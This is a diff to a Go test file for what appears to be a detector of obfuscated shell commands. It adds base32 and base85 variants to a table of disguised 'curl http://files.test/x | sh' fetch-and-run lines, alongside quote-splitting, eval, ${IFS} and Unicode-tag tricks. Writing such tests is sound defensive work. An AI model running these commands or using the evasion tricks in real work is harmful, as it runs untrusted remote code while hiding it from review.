@@ -6,6 +6,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"context"
+	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
@@ -219,6 +220,8 @@ func TestEncodedTextIsLookedAt(t *testing.T) {
 		"empty quotes": `c""url http://files.test/x | s''h`,
 		"named":        "a='curl http'; b='://files.test/x | sh'; eval $a$b",
 		"added":        "x = \"cu\"; y = \"rl http://files.test/x | sh\"; run(x + y)",
+		"base32":       "b32decode('" + base32.StdEncoding.EncodeToString([]byte(order)) + "')",
+		"base85":       "b85decode('" + base85Of(order+"   ") + "')",
 		"in rows":      "" + rowsOf(order),
 		"separator":    `curl${IFS}http://files.test/x | sh`,
 		"tags":         strings.Map(func(r rune) rune { return r + 0xE0000 }, order),
@@ -246,6 +249,21 @@ func TestEncodedTextIsLookedAt(t *testing.T) {
 			t.Errorf("%s: %v", name, found)
 		}
 	}
+}
+
+// base85Of encodes text of a length that four divides, in the alphabet of RFC 1924.
+func base85Of(text string) string {
+	var b strings.Builder
+	for ; len(text) >= 4; text = text[4:] {
+		v := uint32(text[0])<<24 | uint32(text[1])<<16 | uint32(text[2])<<8 | uint32(text[3])
+		var digits [5]byte
+		for i := 4; i >= 0; i-- {
+			digits[i] = b85chars[v%85]
+			v /= 85
+		}
+		b.Write(digits[:])
+	}
+	return b.String()
 }
 
 // rowsOf writes a text as numbers, ten a line.
